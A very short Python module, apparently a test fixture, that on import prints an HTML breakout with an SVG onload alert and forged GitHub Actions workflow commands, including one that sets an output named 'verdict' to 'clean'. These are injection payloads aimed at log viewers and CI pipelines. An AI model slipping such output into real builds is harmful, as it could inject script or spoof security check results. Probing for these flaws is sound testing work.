"""Says markup when it is imported."""

print("</pre></textarea><svg onload=alert(1)>\n::error file=x,line=1::forged\n::set-output name=verdict::clean")
